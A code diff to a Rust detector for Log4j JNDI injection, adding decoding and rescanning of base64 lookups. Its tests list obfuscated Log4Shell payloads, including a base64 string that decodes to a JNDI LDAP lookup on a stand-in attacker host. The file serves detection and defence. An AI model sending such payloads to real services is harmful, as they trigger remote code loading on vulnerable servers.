@@ -30,6 +30,14 @@ fn detect_plain(input: &[u8]) -> Option<Finding> {
 }
 
 fn analyse(b: &[u8]) -> Option<Finding> {
+    analyse_at(b, 0)
+}
+
+/// How many times a lookup's result is evaluated again (`${${base64:...}}` decodes to a lookup that Log4j then
+/// resolves): bounded so that a result that keeps producing lookups stays linear.
+const MAX_RESCANS: usize = 2;
+
+fn analyse_at(b: &[u8], rescans: usize) -> Option<Finding> {
     // Cheap exit: without `${` there is no lookup.
     crate::traversal::find(b, b"${")?;
     // Stack of open lookups: (start offset in input, resolved text so far).
@@ -55,6 +63,16 @@ fn analyse(b: &[u8]) -> Option<Finding> {
                     return Some(f);
                 }
                 let value = resolve(&body);
+                // Log4j evaluates a lookup's result again: a `${base64:...}` that decodes to `${jndi:...}` runs.
+                // Only base64 makes new text (the other lookups' results were resolved on the way in).
+                let decoded = body.len() > 7 && body[..7].eq_ignore_ascii_case(b"base64:");
+                if decoded && rescans < MAX_RESCANS && crate::traversal::find(&value, b"${").is_some() {
+                    if let Some(mut f) = analyse_at(&value, rescans + 1) {
+                        f.span = start..i + 1;
+                        f.reason.push_str(" (built by a lookup's result)");
+                        return Some(f);
+                    }
+                }
                 if let Some((_, parent)) = stack.last_mut() {
                     parent.extend_from_slice(&value);
                 }
@@ -112,6 +130,8 @@ fn resolve(body: &[u8]) -> Vec<u8> {
     let (prefix, arg) = (&body[..colon], &body[colon + 1..]);
     match prefix.to_ascii_lowercase().as_slice() {
         b"lower" => arg.to_ascii_lowercase(),
+        // Log4j 2.x's `${base64:...}` decodes its argument.
+        b"base64" => decode::base64_payload(arg).unwrap_or_default(),
         b"upper" => arg.to_ascii_uppercase(),
         b"date" => {
             // A SimpleDateFormat pattern: quoted literals are copied, pattern letters are not.
@@ -147,6 +167,7 @@ mod tests {
             "User-Agent: ${jndi:${lower:l}${lower:d}a${lower:p}://x}",
             "%24%7Bjndi:ldap://x/a%7D",
             "${${sys:nope:-j}ndi:iiop://x}",
+            "${${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}}",
         ] {
             assert!(detect(a.as_bytes()).is_some(), "{a}");
         }
